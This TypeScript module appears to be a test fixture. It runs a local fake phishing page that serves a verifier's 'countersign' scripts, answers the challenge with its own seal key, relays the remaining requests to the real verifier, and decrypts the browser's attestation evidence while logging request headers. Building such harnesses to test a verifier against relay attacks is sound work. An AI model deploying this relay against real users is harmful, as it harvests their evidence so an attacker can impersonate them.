import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import { inflateRawSync } from 'node:zlib';
import { type CryptoKey, compactDecrypt, exportJWK, generateKeyPair } from 'jose';
import { send } from './send.ts';

export type HeaderList = readonly (readonly [string, string])[];

/** What a phishing page got of one genuine browser: its claims, and the headers of each of its requests in order. */
export interface Harvest {
  evidence: unknown;
  requests: Record<string, HeaderList>;
}

const page = `<!doctype html><html lang="en"><meta charset="utf-8"><title>A parcel for you</title>
<script>function got(token) { fetch('/got', { method: 'POST', body: token }); }</script>
<script src="/countersign/agent.js" data-callback="got" data-on-error="got" async></script></html>`;

const pairs = ({ rawHeaders }: IncomingMessage): HeaderList =>
  rawHeaders.flatMap((name, index) => (index % 2 === 0 ? [[name, rawHeaders[index + 1] ?? ''] as const] : []));

async function claimsOf(token: string, key: CryptoKey): Promise<{ evidence: unknown }> {
  const { plaintext } = await compactDecrypt(token.slice(token.indexOf('~') + 1), key);
  const payload = Buffer.from(new TextDecoder().decode(plaintext).split('.')[1] ?? '', 'base64url');
  return JSON.parse((payload[0] === 0x7b ? payload : inflateRawSync(payload)).toString());
}

/**
 * A phishing site. It serves the verifier's own agent and realm scripts, and answers the challenge itself with seal keys
 * of its own: so the evidence of whoever comes by is sealed to it.
 */
export async function startHarvester(mount: string) {
  const { publicKey, privateKey } = await generateKeyPair('ECDH-ES', { crv: 'X25519', extractable: true });
  const seal = [{ kid: 'mine', jwk: await exportJWK(publicKey) }];
  const requests: Record<string, HeaderList> = {};
  let deliver: (harvest: Harvest) => void;
  let fail: (error: Error) => void;
  const harvest = new Promise<Harvest>((resolve, reject) => {
    deliver = resolve;
    fail = reject;
  });
  harvest.catch(() => {
    // Whoever waits for it is told.
  });

  const server = createServer(async (request, response) => {
    const { pathname, search } = new URL(request.url ?? '/', 'http://site');
    const body = request.method === 'POST' ? await text(request) : undefined;
    const json = (value: unknown) => response.setHeader('Content-Type', 'application/json').end(JSON.stringify(value));
    if (pathname === '/') return response.setHeader('Content-Type', 'text/html').end(page);
    if (pathname === '/got' && body !== undefined) {
      response.end();
      return claimsOf(body, privateKey).then(
        ({ evidence }) => deliver({ evidence, requests }),
        (error) => fail(new Error(`the page gave no token: ${body}`, { cause: error })),
      );
    }
    if (pathname === '/countersign/challenge') {
      requests.challenge = pairs(request);
      return json({ v: 1, challenge: 'A'.repeat(120), seal, expiresIn: 300 });
    }
    if (pathname === '/countersign/receipt') {
      requests[`inside.${(JSON.parse(body ?? '{}') as { kind: string }).kind}`] = pairs(request);
      return json({ receipt: 'A'.repeat(120) });
    }
    const kind = /^\/countersign\/realm\/(\w+)\.js$/.exec(pathname)?.[1];
    if (kind) requests[`script.${kind}`] = pairs(request);
    if (!pathname.startsWith('/countersign/')) return response.writeHead(404).end();
    const headers = kind ? [['Sec-Fetch-Dest', String(request.headers['sec-fetch-dest'])] as const] : [];
    const answer = await send(`${mount}${pathname.slice('/countersign'.length)}${search}`, { headers });
    return response
      .writeHead(answer.status, { 'Content-Type': String(answer.headers['content-type']) })
      .end(answer.text);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    harvest,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
